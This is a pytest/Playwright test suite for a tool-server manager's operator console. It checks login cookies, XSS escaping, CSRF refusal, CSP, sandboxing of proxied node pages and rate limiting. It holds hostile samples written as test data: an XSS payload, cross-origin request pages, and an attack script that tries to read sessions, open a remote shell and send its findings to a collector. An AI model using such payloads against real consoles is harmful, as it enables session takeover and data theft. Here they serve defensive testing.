"""The operator console (/ui/) in headless Chromium: Debian's chromium driven by Playwright
through its executable_path, one browser and one manager replica for the module.

Screenshots of the cluster view, the sessions view and the terminal land in
benchmarks/results/ (git-ignored): `bash scripts/test.sh tests/test_console.py`.
"""

from __future__ import annotations

import json
import shutil
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, sync_playwright
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import TimeoutError as PlaywrightTimeout
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from testing.harness import ManagerProc, free_port
from testing.hostile_node import hostile_config, set_rules, spec_header
from tests.conftest import ADMIN_TOKEN, INTERNAL_TOKEN, ROOT, base_config, remove_containers, wait_for

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
RESULTS = ROOT / "benchmarks" / "results"
MARKUP = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def manager(tmp_path_factory: pytest.TempPathFactory, docker_client: Any, redis_client: Any) -> Iterator[ManagerProc]:
    """One replica for the module, with its own key prefix and manager_id, cleaned up after."""
    prefix, mid = f"tsmtest-{uuid.uuid4().hex[:8]}", f"test-{uuid.uuid4().hex[:8]}"
    m = ManagerProc(base_config(prefix, mid), tmp_path_factory.mktemp("console"), "console").start()
    yield m
    m.stop()
    remove_containers(docker_client, mid)
    keys = list(redis_client.scan_iter(match=f"{prefix}:*", count=1000))
    if keys:
        redis_client.delete(*keys)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, headless=True)
        yield b
        b.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
    yield ctx
    ctx.close()


def goto_console(page: Page, url: str) -> None:
    """page.goto, again when Chromium dropped one of the page's requests for a network change: the
    suite makes and removes interfaces all the time (test hosts' namespaces, bridges), Chromium then
    aborts what is in flight with ERR_NETWORK_CHANGED, and a console module that did not load leaves
    a page with no form and no script (seen in full runs; a user's browser would just be reloaded)."""
    dropped: list[str] = []
    for _ in range(3):
        dropped.clear()

        def listener(r: Any) -> None:
            if "ERR_NETWORK_CHANGED" in str(r.failure):
                dropped.append(r.url)

        page.on("requestfailed", listener)
        try:
            page.goto(url)
        except PlaywrightError as exc:
            if "ERR_NETWORK_CHANGED" not in str(exc):
                raise
            dropped.append(url)
        finally:
            page.remove_listener("requestfailed", listener)
        if not dropped:
            return
    raise AssertionError(f"Chromium dropped {dropped} for a network change three times running")


def log_in(page: Page, base: str, token: str = ADMIN_TOKEN) -> None:
    # what the page met on its way, said if no form comes (seen twice in full runs, never alone)
    met: list[str] = []
    page.on("pageerror", lambda e: met.append(f"error {e}"))
    page.on("requestfailed", lambda r: met.append(f"failed {r.url} {r.failure}"))
    page.on("response", lambda r: r.status >= 400 and met.append(f"{r.status} {r.url}"))
    page.on("requestfinished", lambda r: met.append(f"done {r.url}"))
    goto_console(page, base + "/ui/")
    try:
        page.wait_for_selector("#token", state="visible", timeout=60_000)
    except PlaywrightTimeout:
        raise AssertionError(f"no login form: flash={page.text_content('#flash')!r}; the page met: {met}") from None
    page.fill("#token", token)
    page.click("#login-form button[type=submit]")


def console_ready(page: Page) -> None:
    """Wait for the console's logged-in view; on a timeout, say what the page showed instead."""
    try:
        page.wait_for_selector("#nav:not([hidden])", timeout=60_000)
    except PlaywrightTimeout:
        raise AssertionError(f"the console is not logged in: flash={page.text_content('#flash')!r} "
                             f"login-error={page.text_content('#login-error')!r}") from None


def logged_in(context: BrowserContext, base: str) -> Page:
    page = context.new_page()
    log_in(page, base)
    console_ready(page)
    return page


def new_session(base: str) -> tuple[httpx.Client, str]:
    c = httpx.Client(base_url=base, timeout=60)
    r = c.post("/get_cookie")
    assert r.status_code == 200, r.text
    return c, c.cookies["node_id"]


PRINT_TOOL = ("def print_to_log(text: str):\n"
              "    \"\"\"Print text to the node's own output.\"\"\"\n"
              "    print(text, flush=True)\n")


def node_prints(c: httpx.Client, text: str) -> None:
    """The node writes text to its own output (what the engine keeps as its log): its server does,
    through a registered tool (a tool's process, another uid than the server's, cannot reach it)."""
    r = c.post("/register_new_tool", json={"tool_name": "print_to_log", "code": PRINT_TOOL})
    assert r.status_code == 200 or "replicated" in r.text, r.text
    r = c.post("/execute_tool", json={"tool_name": "print_to_log", "arguments": {"text": text}})
    assert r.status_code == 200, r.text


def test_a_replica_that_does_not_answer_is_retried_not_taken_for_a_logout(manager: ManagerProc,
                                                                            context: BrowserContext) -> None:
    # a busy or restarting replica (or a balancer between two) fails a page load's whoami: only the
    # manager's 401 may ask for the token again
    page = logged_in(context, manager.console_url)
    failed: list[str] = []

    def busy(route: Route) -> None:
        if len(failed) < 2:
            failed.append(route.request.url)
            route.fulfill(status=503, content_type="application/json", body='{"detail": "busy"}')
        else:
            route.continue_()

    page.route("**/ui/whoami", busy)
    page.reload()
    console_ready(page)
    assert len(failed) == 2 and page.is_hidden("#login")


def test_wrong_token_refused_right_one_logs_in_without_leaking_it(manager: ManagerProc, context: BrowserContext) -> None:
    urls: list[str] = []
    page = context.new_page()
    page.on("request", lambda req: urls.append(req.url))
    log_in(page, manager.console_url, "not-the-token")
    page.wait_for_selector("#login-error:has-text('Wrong token')")
    assert not [c for c in context.cookies() if c["name"] == "tsm_console"]
    r = httpx.post(manager.console_url + "/ui/login", json={"token": "not-the-token"},
                   headers={"Origin": manager.console_url})
    assert r.status_code == 403 and "set-cookie" not in r.headers
    assert httpx.get(manager.console_url + "/ui/api/nodes").status_code == 401

    log_in(page, manager.console_url)
    console_ready(page)
    page.wait_for_selector("#live:has-text('live')")
    cookie, = [c for c in context.cookies() if c["name"] == "tsm_console"]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/ui"
    assert ADMIN_TOKEN not in cookie["value"]
    assert page.evaluate("document.cookie") == ""  # page scripts cannot read it
    assert urls and not [u for u in urls if ADMIN_TOKEN in u]
    assert ADMIN_TOKEN not in manager.logs()


def test_session_lifecycle_from_the_page(manager: ManagerProc, context: BrowserContext, docker_client: Any) -> None:
    page = logged_in(context, manager.console_url)
    page.goto(manager.console_url + "/ui/#/sessions")
    page.wait_for_selector("#sessions:not([hidden])")
    c, node_id = new_session(manager.url)
    # created by a client: on the page in well under a second, from the events stream (the page's
    # own refresh is every 10 s); the bound is 10x what it takes, and the figure is printed
    t0 = time.monotonic()
    page.wait_for_selector(f'a[data-node="{node_id}"]', timeout=5000)
    print(f"\nsession on the page {time.monotonic() - t0:.3f} s after its creation returned")
    page.wait_for_selector(f"tr:has(a[data-node='{node_id}']) td:text-is('running')", timeout=5000)
    page.click(f"tr:has(a[data-node='{node_id}']) button:text-is('read')")  # CPU and memory on demand
    page.wait_for_selector(f"tr:has(a[data-node='{node_id}']) td:has-text('CPU s')", timeout=10000)
    page.screenshot(path=str(RESULTS / "console-sessions.png"), full_page=True)

    page.click(f'a[data-node="{node_id}"]')
    page.wait_for_selector(f"#session-id:has-text('{node_id}')")
    line = f"console-log-{uuid.uuid4().hex[:8]}"
    node_prints(c, line)
    page.wait_for_selector(f"#log div:text-is('{line}')", timeout=10000)  # followed live, as printed

    page.click("#terminal")
    page.keyboard.type("echo term-$((6*7))-ok")
    page.keyboard.press("Enter")
    # a command's answer comes over /ws/shell from an exec in the node: 15 s was once too short at
    # load 15-20 (four test workers beside three engineers' runs); what the terminal showed is said
    try:
        page.wait_for_selector("#terminal:has-text('term-42-ok')", timeout=60_000)
    except PlaywrightTimeout:
        # once in a full run (f10) nothing came back in 60 s and nothing closed: say what each side saw
        found = docker_client.containers.list(all=True, filters={"label": f"toolserver-manager.session_id={node_id}"})
        node_log = found[0].logs(tail=40).decode(errors="replace") if found else "(no container)"
        raise AssertionError(f"the terminal showed: {page.inner_text('#terminal')!r}\n--- manager log (tail) ---\n"
                             f"{manager.logs()[-4000:]}\n--- node log (tail) ---\n{node_log}") from None
    page.screenshot(path=str(RESULTS / "console-terminal.png"), full_page=True)

    page.goto(manager.console_url + "/ui/#/cluster")  # charts have sampled /metrics since the login
    page.wait_for_selector(f"#cluster td:text-is('{manager.replica_id}')")
    page.wait_for_selector("#cluster .chart .u-over")
    page.screenshot(path=str(RESULTS / "console-cluster.png"), full_page=True)
    page.goto(manager.console_url + f"/ui/#/session/{node_id}")

    status = "#record tr:has(th:text-is('status')) td"
    for action, now in (("pause", "paused"), ("resume", "running")):  # tiers, from the page
        button = page.locator(f"#session h1 button[data-action^='{action}:']")
        button.click()
        button.click()  # confirmed
        page.wait_for_selector(f"{status}:text-is('{now}')", timeout=15000)

    assert c.post("/execute_tool", json={"tool_name": "shell_command_executor",
                                         "arguments": {"command": "true"}}).status_code == 200
    release = page.locator("#session h1 button[data-action^='release:']")
    release.click()
    release.click()  # confirmed
    wait_for(lambda: c.post("/execute_tool", json={"tool_name": "shell_command_executor",
                                                   "arguments": {"command": "true"}}).status_code == 403,
             timeout=15, what="the client refused after a release from the page")
    page.goto(manager.console_url + "/ui/#/sessions")
    page.wait_for_selector(f'a[data-node="{node_id}"]', state="detached", timeout=5000)

    # released by a client: gone from the page without a reload
    c2, node2 = new_session(manager.url)
    page.wait_for_selector(f'a[data-node="{node2}"]', timeout=1000)
    r = c2.post("/release_session")
    assert r.status_code == 200, r.text
    page.wait_for_selector(f'a[data-node="{node2}"]', state="detached", timeout=2000)


def test_markup_a_node_prints_is_shown_as_text(manager: ManagerProc, context: BrowserContext) -> None:
    page = logged_in(context, manager.console_url)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    c, node_id = new_session(manager.url)
    node_prints(c, MARKUP)
    fname = "<b>f.txt"  # a file name is node-controlled too
    r = c.post("/execute_tool", json={"tool_name": "shell_command_executor",
                                      "arguments": {"command": f"touch '/app/workspace/{fname}'"}})
    assert r.status_code == 200, r.text
    page.goto(manager.console_url + f"/ui/#/session/{node_id}")
    wait_for(lambda: fname in page.locator("#files").inner_text(), timeout=10, what="the file name shown literally")
    page.wait_for_selector("#log div", timeout=10000)
    wait_for(lambda: MARKUP in page.locator("#log").inner_text(), timeout=10, what="the line shown literally")
    page.wait_for_timeout(500)
    assert page.locator("#log img").count() == 0
    assert page.locator("img, #files b").count() == 0
    assert dialogs == []
    c.post("/release_session")


class _Attacker(BaseHTTPRequestHandler):
    """A page of another origin on the same host (same site: the Strict cookie goes along)."""

    page = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *args: Any) -> None:
        pass


def test_actions_from_another_origin_are_refused(manager: ManagerProc, context: BrowserContext) -> None:
    page = logged_in(context, manager.console_url)
    c, node_id = new_session(manager.url)
    api = f"{manager.console_url}/ui/api/nodes/release"
    body = json.dumps({"node_ids": [node_id]})
    _Attacker.page = (f"<script>fetch({json.dumps(api)}, {{method: 'POST', mode: 'no-cors', credentials: 'include',"
                      f" body: {json.dumps(body)}}}).then(() => document.title = 'sent', () => document.title = 'failed');"
                      f"</script>").encode()
    port = free_port()
    srv = ThreadingHTTPServer(("127.0.0.1", port), _Attacker)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        evil = page.context.new_page()
        evil.goto(f"http://127.0.0.1:{port}/")
        # no-cors: the promise resolves (opaque) once the manager answered, rejects if nothing did
        wait_for(lambda: evil.title() in ("sent", "failed"), timeout=10, what="the other origin's request done")
        assert evil.title() == "sent", "the other origin's request never reached the manager: nothing was tested"
    finally:
        srv.shutdown()
    # the manager answered it (the promise resolved), so it has decided: the session was not released
    assert c.post("/execute_tool", json={"tool_name": "shell_command_executor",
                                         "arguments": {"command": "true"}}).status_code == 200

    cookie = {c["name"]: c["value"] for c in context.cookies()}
    jar = {"tsm_console": cookie["tsm_console"]}
    for origin in (f"http://127.0.0.1:{port}", None):
        headers = {"Origin": origin} if origin else {}
        r = httpx.post(api, cookies=jar, headers=headers, content=body)
        assert r.status_code == 403 and "cross-origin" in r.json()["detail"], r.text
        with pytest.raises(InvalidStatus) as exc:
            connect(f"ws://{manager.console_url[7:]}/ui/ws/shell/{node_id}", open_timeout=5,
                    additional_headers={"Cookie": f"tsm_console={jar['tsm_console']}", **headers})
        assert exc.value.response.status_code == 403
    # the same request from the console's own origin goes through
    r = httpx.post(f"{manager.console_url}/ui/api/nodes/{node_id}/stop", cookies=jar,
                   headers={"Origin": manager.console_url})
    assert r.status_code == 200, r.text
    c.post("/release_session")


def test_the_page_runs_only_its_own_scripts_and_logout_ends_the_login(manager: ManagerProc,
                                                                       context: BrowserContext) -> None:
    r = httpx.get(manager.console_url + "/ui/")
    csp = {d.split()[0]: d.split()[1:] for d in r.headers["content-security-policy"].split("; ")}
    assert csp["script-src"] == ["'self'"] and csp["default-src"] == ["'none'"], csp
    assert csp["frame-ancestors"] == ["'none'"] and csp["base-uri"] == ["'none'"], csp
    page = logged_in(context, manager.console_url)
    # the browser enforces it: a script injected into the page (as a node's text would be, were it
    # ever inserted as markup) does not run, inline or from another origin
    ran = page.evaluate("""() => new Promise(done => {
        const inline = document.createElement('script');
        inline.textContent = 'window.__injected = true';
        document.body.appendChild(inline);
        const remote = document.createElement('script');
        remote.src = 'http://127.0.0.1:1/evil.js';
        remote.onerror = () => done(window.__injected === true ? 'inline ran' : 'blocked');
        remote.onload = () => done('remote ran');
        document.body.appendChild(remote);
    })""")
    assert ran == "blocked"
    assert page.evaluate("fetch('/ui/api/nodes').then(r => r.status)") == 200
    page.click("#logout")
    page.wait_for_selector("#login-form:visible")
    assert not [c for c in context.cookies() if c["name"] == "tsm_console"]  # the browser forgot it
    assert page.evaluate("fetch('/ui/api/nodes').then(r => r.status)") == 401
    page.reload()  # and a reload asks for the token again
    page.wait_for_selector("#login-form:visible")


def test_console_is_off_without_an_admin_token(start_manager: Any) -> None:
    m = start_manager(admin={"token": ""})
    for path in ("/ui/", "/ui/static/app.js", "/ui/whoami"):
        assert httpx.get(m.url + path).status_code == 404
    assert httpx.post(m.url + "/ui/login", json={"token": ""}, headers={"Origin": m.url}).status_code == 404
    with pytest.raises(httpx.ConnectError):  # nothing listens on the console's port
        httpx.get(m.console_url + "/ui/")


def test_logs_of_a_node_on_another_manager_id_stream_through_any_replica(
        manager_id_b: str, start_manager: Any) -> None:
    a, b = start_manager(name="a"), start_manager(name="b", mid=manager_id_b)
    c, node_id = new_session(b.url)
    auth = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    r = httpx.get(f"{a.url}/admin/nodes/{node_id}/logs?tail=50", headers=auth, timeout=10)
    assert r.status_code == 200 and "node ready on" in r.text, r.text
    assert httpx.get(f"{a.url}/admin/nodes/{node_id}/logs?tail=-1", headers=auth).status_code == 400
    assert httpx.get(f"{a.url}/admin/nodes/{'0' * 64}/logs", headers=auth).status_code == 404
    line = f"followed-{uuid.uuid4().hex[:8]}"
    seen = ""
    with httpx.stream("GET", f"{a.url}/admin/nodes/{node_id}/logs?tail=0&follow=1", headers=auth,
                      timeout=httpx.Timeout(20, connect=5)) as resp:
        assert resp.status_code == 200
        node_prints(c, line)
        chunks = resp.iter_text()
        while line not in seen:
            seen += next(chunks)
        assert c.post("/release_session").status_code == 200
        for chunk in chunks:  # the stream ends when the node is gone
            seen += chunk
    assert "node ready on" not in seen  # tail=0: only what came after
    # both reads went to the owner (one engine here: only the count tells they were forwarded)
    assert 'toolserver_forwarded_requests_total{kind="logs"} 2.0' in httpx.get(a.url + "/metrics").text


# --- a node's page never runs as the console (issue 22) -------------------------------------------------
class _Collector(BaseHTTPRequestHandler):
    """Where a hostile page reports what its script could do (any origin may POST here, no-cors)."""

    reports: ClassVar[list[dict[str, Any]]] = []
    got = threading.Event()

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        type(self).reports.append(json.loads(body or b"{}"))
        type(self).got.set()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


def _attack_page(m: ManagerProc, victim: str, collect: str) -> str:
    """A node's page whose script tries, at the console's origin and at its own, to read the
    sessions, release and pause the victim and open a shell in it; then reports what it got."""
    bases = {"console": m.console_url, "proxy": m.url}
    return ("<!doctype html><title>node page</title><script>(async () => {"
            f"const B = {json.dumps(victim)}, bases = {json.dumps(bases)}, out = {{}};"
            "const attempt = async (name, fn) => { try { out[name] = await fn(); } catch (e) { out[name] = 'error ' + e; } };"
            "for (const [where, base] of Object.entries(bases)) {"
            " await attempt(where + ':list', async () => { const r = await fetch(base + '/ui/api/nodes', {credentials: 'include'});"
            "   return r.status + ' ' + (await r.text()).slice(0, 4000); });"
            " await attempt(where + ':release', async () => { const r = await fetch(base + '/ui/api/nodes/release', {method: 'POST',"
            "   credentials: 'include', headers: {'content-type': 'application/json'}, body: JSON.stringify({node_ids: [B]})});"
            "   return r.status + ' ' + await r.text(); });"
            " await attempt(where + ':pause', async () => { await fetch(base + '/ui/api/nodes/' + B + '/pause',"
            "   {method: 'POST', mode: 'no-cors', credentials: 'include'}); return 'no-cors'; });"
            " await attempt(where + ':shell', () => new Promise(res => {"
            "   const ws = new WebSocket(base.replace('http', 'ws') + '/ui/ws/shell/' + B);"
            "   ws.onopen = () => { ws.send('echo pwned\\n'); res('open'); };"
            "   ws.onerror = () => res('refused'); ws.onclose = () => res('closed'); setTimeout(() => res('timeout'), 5000); }));"
            "}"
            f"await fetch({json.dumps(collect)}, {{method: 'POST', mode: 'no-cors', body: JSON.stringify(out)}});"
            "document.title = 'reported';"
            "})();</script>")


@pytest.fixture
def collector() -> Iterator[str]:
    _Collector.reports = []
    _Collector.got = threading.Event()
    port = free_port()
    srv = ThreadingHTTPServer(("127.0.0.1", port), _Collector)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{port}/report"
    srv.shutdown()


def _hostile_sessions(m: ManagerProc, page: str, cookies: list[list[str]]) -> tuple[httpx.Client, httpx.Client]:
    """(attacker, victim): two sessions of m; the attacker's node serves page (and cookies) at /."""
    attacker, victim = new_session(m.url)[0], new_session(m.url)[0]
    set_rules(attacker, {"/": {"content_type": "text/html", "body": page,
                               "headers": [["set-cookie", c] for c in cookies]}})
    return attacker, victim


def _victim_untouched(m: ManagerProc, victim: httpx.Client) -> None:
    node_id = victim.cookies["node_id"]
    r = httpx.get(f"{m.url}/admin/nodes/{node_id}", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    assert r.status_code == 200 and r.json()["record"]["status"] == "running", r.text  # not paused nor released


OWN_COOKIES = ["tsm_console=planted; Path=/ui", "node_id=planted; Path=/", "tsm_api_key=planted; Path=/"]


def test_a_nodes_page_cannot_read_or_act_through_the_console(start_manager: Any, browser: Browser,
                                                             collector: str) -> None:
    """Even allowed to run script (response_csp "sandbox allow-scripts"), a node's page served on the
    proxy port, in a browser logged in to the console, reads nothing and changes nothing."""
    m = start_manager(**hostile_config(proxy={"response_csp": "sandbox allow-scripts"}))
    attacker, victim = _hostile_sessions(m, "", [])
    set_rules(attacker, {"/": {"content_type": "text/html", "body": _attack_page(m, victim.cookies["node_id"],
                                                                                 collector)}})
    ctx = browser.new_context()
    try:
        logged_in(ctx, m.console_url)
        ctx.add_cookies([{"name": "node_id", "value": attacker.cookies["node_id"], "url": m.url}])
        page = ctx.new_page()
        page.goto(m.url + "/")
        assert _Collector.got.wait(30), "the node page's script never reported"
    finally:
        ctx.close()
    out, = _Collector.reports
    for where in ("console", "proxy"):
        assert not out[f"{where}:list"].startswith("200"), out  # nothing read
        assert victim.cookies["node_id"] not in out[f"{where}:list"], out
        assert not out[f"{where}:release"].startswith("200"), out
        assert out[f"{where}:shell"] != "open", out
    _victim_untouched(m, victim)


def test_a_nodes_page_runs_no_script_and_sets_no_cookie_of_the_managers(start_manager: Any, browser: Browser,
                                                                        collector: str) -> None:
    """By default a node's page is sandboxed without script; cookies named as the manager's are dropped."""
    m = start_manager(**hostile_config())
    attacker, victim = _hostile_sessions(m, "", [])
    set_rules(attacker, {"/": {"content_type": "text/html", "headers": [["set-cookie", c] for c in OWN_COOKIES],
                               "body": _attack_page(m, victim.cookies["node_id"], collector)}})
    ctx = browser.new_context()
    try:
        logged_in(ctx, m.console_url)
        login = {c["name"]: c["value"] for c in ctx.cookies()}["tsm_console"]
        ctx.add_cookies([{"name": "node_id", "value": attacker.cookies["node_id"], "url": m.url}])
        page = ctx.new_page()
        blocked = threading.Event()
        page.on("console", lambda msg: "Blocked script execution" in msg.text and blocked.set())
        page.goto(m.url + "/")
        wait_for(blocked.is_set, timeout=10, what="the browser refusing the node page's script")
        jar = {c["name"]: c["value"] for c in ctx.cookies()}
        assert jar["tsm_console"] == login and jar["node_id"] == attacker.cookies["node_id"], jar
        assert "tsm_api_key" not in jar
        goto_console(page, m.console_url + "/ui/")
        console_ready(page)  # still logged in
    finally:
        ctx.close()
    assert not _Collector.got.is_set()
    _victim_untouched(m, victim)


def test_proxied_answers_are_sandboxed_and_credentials_stay_with_the_manager(start_manager: Any) -> None:
    m = start_manager(**hostile_config())
    c = new_session(m.url)[0]
    node_id = c.cookies["node_id"]
    r = c.get("/", headers=spec_header(content_type="text/html", body="<script>1</script>", headers=[
        ["set-cookie", x] for x in [*OWN_COOKIES, "theirs=1; Path=/"]] + [["x-content-type-options", "sniff"]]))
    assert r.status_code == 200
    assert r.headers["content-security-policy"] == "sandbox"
    assert r.headers.get_list("x-content-type-options") == ["nosniff"]
    assert r.headers.get_list("set-cookie") == ["theirs=1; Path=/"]

    def seen(**kw: Any) -> dict[str, Any]:
        r = httpx.get(m.url + "/", headers={"x-hostile-echo": "1", **kw.pop("headers", {})}, **kw)
        assert r.status_code == 200, r.text
        return r.json()  # type: ignore[no-any-return]

    cookie = f"node_id={node_id}; tsm_console=login; tsm_api_key=key; other=1"
    got = seen(headers={"Cookie": cookie, "Authorization": f"Bearer {ADMIN_TOKEN}"})["headers"]
    assert got["cookie"] == f"node_id={node_id}; other=1" and "authorization" not in got, got
    got = seen(headers={"Cookie": f"node_id={node_id}", "Authorization": INTERNAL_TOKEN})["headers"]
    assert "authorization" not in got, got
    got = seen(headers={"Cookie": f"node_id={node_id}", "Authorization": "Bearer the-nodes-own"})["headers"]
    assert got["authorization"] == "Bearer the-nodes-own"  # not the manager's: the node's business
    # a credential in the query is refused on proxied routes too, never forwarded
    for qs in ("api_key=k", "token=t", "tsm_api_key=k", f"q={ADMIN_TOKEN}"):
        r = httpx.get(f"{m.url}/?{qs}", headers={"Cookie": f"node_id={node_id}", "x-hostile-echo": "1"})
        assert r.status_code == 400 and "not accepted in the URL" in r.json()["detail"], (qs, r.text)
    assert seen(params={"page": "2"}, headers={"Cookie": f"node_id={node_id}"})["target"] == "/?page=2"
    assert seen(params={"q": "\U000ff5ad" * 9}, headers={"Cookie": f"node_id={node_id}"})["target"].startswith("/?q=%F3")


def test_the_console_has_an_origin_of_its_own(manager: ManagerProc) -> None:
    for path in ("/ui", "/ui/", "/ui/static/app.js", "/ui/whoami"):
        r = httpx.get(manager.url + path)
        assert r.status_code == 404 and "own port" in r.json()["detail"], (path, r.text)
    assert httpx.post(manager.url + "/ui/login", json={"token": ADMIN_TOKEN},
                      headers={"Origin": manager.url}).status_code == 404
    with pytest.raises(InvalidStatus):
        connect(f"ws://127.0.0.1:{manager.port}/ui/ws/events", open_timeout=5,
                additional_headers={"Origin": manager.url})
    r = httpx.get(manager.console_url + "/")
    assert r.status_code == 307 and r.headers["location"] == "/ui/"
    assert httpx.get(manager.console_url + "/ui/").status_code == 200
    for path in ("/get_cookie", "/execute_tool", "/admin/nodes"):  # nothing a node answers, nor the rest
        assert httpx.post(manager.console_url + path).status_code == 404


# --- credentials of the console and the admin API (issue 22) -------------------------------------------
def _login(console_url: str, token: str = ADMIN_TOKEN) -> httpx.Response:
    return httpx.post(console_url + "/ui/login", json={"token": token}, headers={"Origin": console_url})


def test_logout_ends_that_login_on_every_replica(start_manager: Any) -> None:
    a, b = start_manager(name="a"), start_manager(name="b")
    jar = {"tsm_console": _login(a.console_url).cookies["tsm_console"]}
    other = {"tsm_console": _login(a.console_url).cookies["tsm_console"]}  # a second login
    for m in (a, b):  # any replica accepts it
        assert httpx.get(m.console_url + "/ui/whoami", cookies=jar).status_code == 200
    r = httpx.post(a.console_url + "/ui/logout", cookies=jar, headers={"Origin": a.console_url})
    assert r.status_code == 200
    for m in (a, b):  # the cookie kept (copied, say) answers nowhere now, API and sockets alike
        r = httpx.get(m.console_url + "/ui/whoami", cookies=jar)
        assert r.status_code == 401 and "logout" in r.json()["detail"], r.text
        assert httpx.get(m.console_url + "/ui/api/nodes", cookies=jar).status_code == 401
        with pytest.raises(InvalidStatus):
            connect(f"ws://{m.console_url[7:]}/ui/ws/events", open_timeout=5,
                    additional_headers={"Cookie": f"tsm_console={jar['tsm_console']}", "Origin": m.console_url})
        assert httpx.get(m.console_url + "/ui/whoami", cookies=other).status_code == 200  # other logins live on


def test_wrong_admin_tokens_are_rate_limited_per_address(start_manager: Any) -> None:
    m = start_manager(quota={"trusted_proxies": ["127.0.0.1/32"]})  # 10 failures a minute by default
    for i in range(10):
        r = httpx.get(m.url + "/admin/nodes", headers={"Authorization": f"Bearer guess-{i}"})
        assert r.status_code == 403, r.text
    r = httpx.get(m.url + "/admin/nodes", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    assert r.status_code == 429 and 0 < int(r.headers["retry-after"]) <= 60, r.text  # even the right one, now
    r = _login(m.console_url)
    assert r.status_code == 429 and "retry-after" in r.headers and "set-cookie" not in r.headers, r.text
    # another address (here through the trusted balancer) is not held back
    r = httpx.get(m.url + "/admin/nodes", headers={"Authorization": f"Bearer {ADMIN_TOKEN}",
                                                   "X-Forwarded-For": "10.2.3.4"})
    assert r.status_code == 200, r.text
    for i in range(10):  # console logins count the same way
        assert httpx.post(m.console_url + "/ui/login", json={"token": f"guess-{i}"},
                          headers={"Origin": m.console_url, "X-Forwarded-For": "10.9.9.9"}).status_code == 403
    assert httpx.post(m.console_url + "/ui/login", json={"token": ADMIN_TOKEN},
                      headers={"Origin": m.console_url, "X-Forwarded-For": "10.9.9.9"}).status_code == 429


def test_session_ids_are_cut_short_in_log_lines(manager: ManagerProc) -> None:
    c, node_id = new_session(manager.url)
    jar = _login(manager.console_url).cookies["tsm_console"]
    with connect(f"ws://{manager.console_url[7:]}/ui/ws/shell/{node_id}", open_timeout=10,
                 additional_headers={"Cookie": f"tsm_console={jar}", "Origin": manager.console_url}):
        pass
    wait_for(lambda: f"/ui/ws/shell/{node_id[:12]}" in manager.logs(), timeout=10, what="the socket's log line")
    assert node_id not in manager.logs()
    c.post("/release_session")
